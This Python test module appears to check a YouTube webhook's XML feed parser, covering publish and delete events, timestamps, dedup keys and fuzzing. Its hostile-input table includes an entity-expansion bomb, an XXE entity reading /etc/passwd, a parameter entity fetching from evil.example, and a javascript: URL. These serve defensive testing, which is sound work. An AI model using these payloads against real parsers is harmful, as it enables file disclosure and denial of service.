"""YouTube's pushes in our words, and XML that means harm."""

import json
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chalicelib.core.errors import InvalidInput
from chalicelib.platforms.inbound import InboundEvent, InboundKind
from chalicelib.platforms.youtube.webhook import YouTubeWebhook
from tests.platforms.webhooks import delivery, events, fixture

CHANNEL = "UCzolwzolwzolwzolwzolw12"
VIDEO, DELETED = fixture("youtube", "video.xml"), fixture("youtube", "deleted.xml")


def event(raw: bytes) -> InboundEvent:
    (found,) = events(YouTubeWebhook(), raw)
    return found


def test_a_video_of_our_channel_is_published_content_of_our_own() -> None:
    video = event(VIDEO)
    assert (video.kind, video.own) == (InboundKind.PUBLISH_RESULT, True)
    assert (video.account, video.external_id, video.post_id) == (CHANNEL, "VIDEO_ID", "VIDEO_ID")
    assert video.text == "Zażółć & سلام 👩🏽‍🍳"
    assert video.url == "http://www.youtube.com/watch?v=VIDEO_ID"
    assert video.details == {"outcome": "published", "reason": "", "post_id": "VIDEO_ID", "url": video.url}


def test_nanoseconds_are_cut_to_what_a_clock_here_can_say() -> None:
    video = event(VIDEO)
    assert video.happened_at == datetime(2015, 3, 6, 21, 40, 57, tzinfo=UTC)
    assert video.edited_at == datetime(2015, 3, 9, 19, 5, 24, 552394, tzinfo=UTC)


def test_an_edit_has_a_key_of_its_own_and_a_repeated_delivery_has_not() -> None:
    edited = VIDEO.replace(b"2015-03-09", b"2015-03-10")
    assert event(VIDEO).key == event(VIDEO).key != event(edited).key


def test_a_tombstone_is_a_deletion_in_the_channel_that_only_its_author_names() -> None:
    gone = event(DELETED)
    assert (gone.kind, gone.own, gone.account) == (InboundKind.CONTENT_DELETED, True, CHANNEL)
    assert gone.external_id == "VIDEO_ID"
    assert gone.happened_at == datetime(2015, 4, 1, 19, 5, 24, 552394, tzinfo=UTC)


def test_a_feed_may_carry_several_entries_and_none() -> None:
    start, end = VIDEO.index(b"<entry>"), VIDEO.index(b"</feed>")
    two = VIDEO[:end] + VIDEO[start:end].replace(b"VIDEO_ID", b"OTHER_ID") + VIDEO[end:]
    assert [one.external_id for one in events(YouTubeWebhook(), two)] == ["VIDEO_ID", "OTHER_ID"]
    assert events(YouTubeWebhook(), VIDEO[:start] + VIDEO[end:]) == []


def test_an_entry_that_is_no_video_is_kept_as_unknown() -> None:
    other = event(VIDEO.replace(b"<yt:videoId>VIDEO_ID</yt:videoId>", b""))
    assert (other.kind, other.account) == (InboundKind.UNKNOWN, CHANNEL)


@pytest.mark.parametrize(
    ("part", "without"), [(b"<updated>2015-03-09", b"<updated>soon-"), (b"<published>2015", b"<published>x")]
)
def test_an_entry_without_its_times_is_broken(part: bytes, without: bytes) -> None:
    with pytest.raises(ValueError, match="isoformat"):
        events(YouTubeWebhook(), VIDEO.replace(part, without))


def test_an_address_that_no_browser_should_open_is_not_kept() -> None:
    assert event(VIDEO.replace(b"http://www.youtube.com/watch?v=", b"javascript:alert")).url == ""


BOMB = (
    b'<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'
    b'<feed xmlns="http://www.w3.org/2005/Atom"><title>&c;</title></feed>'
)
HOSTILE = {
    "an entity bomb": BOMB,
    "a file as an entity": b'<!DOCTYPE f [<!ENTITY x SYSTEM "file:///etc/passwd">]><feed>&x;</feed>',
    "an address as a parameter entity": b'<!DOCTYPE f [<!ENTITY % x SYSTEM "http://evil.example/">%x;]><feed/>',
    "a document type alone": b"<!DOCTYPE feed>" + VIDEO.partition(b"?>")[2],
    "an undefined entity": VIDEO.replace(b"&amp;", b"&nbsp;"),
    "too much": VIDEO.replace(b"</feed>", b" " * 300_000 + b"</feed>"),
    "half": VIDEO[: len(VIDEO) // 2],
    "two roots": VIDEO + b"<feed/>",
    "nothing": b"",
    "a zero byte": VIDEO.replace(b"VIDEO_ID", b"\0"),
    "an encoding that is not": VIDEO.replace(b"UTF-8", b"KLINGON"),
    "an encoding of many bytes": VIDEO.replace(b"UTF-8", b"GB18030"),
    "bytes that are not its encoding": VIDEO.replace(b"VIDEO_ID", b"\xff\xfe"),
    "another root": b'<rss version="2.0"><channel/></rss>',
    "no namespace": b"<feed><entry/></feed>",
    "JSON": b'{"object":"page"}',
    "deep nesting": b"<a>" * 80_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_xml_is_refused(name: str) -> None:
    with pytest.raises(InvalidInput):
        YouTubeWebhook().split(delivery(HOSTILE[name]))


def test_a_feed_that_is_nested_deeply_harms_nobody() -> None:
    inner = b"<a>" * 30_000 + b"</a>" * 30_000
    assert len(YouTubeWebhook().split(delivery(VIDEO.replace(b"</entry>", inner + b"</entry>")))) == 1


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_no_bytes_raise_anything_but_a_refusal_or_a_broken_piece(data: st.DataObject) -> None:
    whole = data.draw(st.sampled_from([VIDEO, DELETED]))
    start = data.draw(st.integers(0, len(whole)))
    length, noise = data.draw(st.integers(0, 40)), data.draw(st.binary(max_size=20) | st.just(BOMB))
    scheme = YouTubeWebhook()
    try:
        pieces = scheme.split(delivery(whole[:start] + noise + whole[start + length :]))
    except InvalidInput:
        return
    for piece in pieces:
        try:
            found = scheme.normalise(json.loads(json.dumps(piece)))
        except (ValueError, KeyError, TypeError):
            continue
        assert all(one.key and one.platform == "youtube" for one in found)
